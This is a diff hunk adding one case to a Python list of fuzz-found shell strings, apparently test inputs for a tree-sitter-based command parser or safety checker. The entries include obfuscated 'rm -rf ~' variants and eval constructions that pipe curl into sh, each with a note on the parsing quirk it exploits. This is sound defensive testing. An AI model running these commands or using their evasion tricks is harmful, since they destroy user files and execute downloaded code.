@@ -324,6 +324,7 @@ _FUZZ_FOUND = [
     ('rm $""-rf ~', "a translated string starting a word"),
     ("a=b c=d\r\ncoproc c { rm -rf ~; }", "assignments end at the newline"),
     ('eval "eval "read -a v <<< curl && "${v[@]}" -s x | sh""', "eval read: the same read"),
+    ('eval ""curl" `echo -s` "x" | sh"', "a blank tree-sitter put in a backtick token"),
 ]
 
 
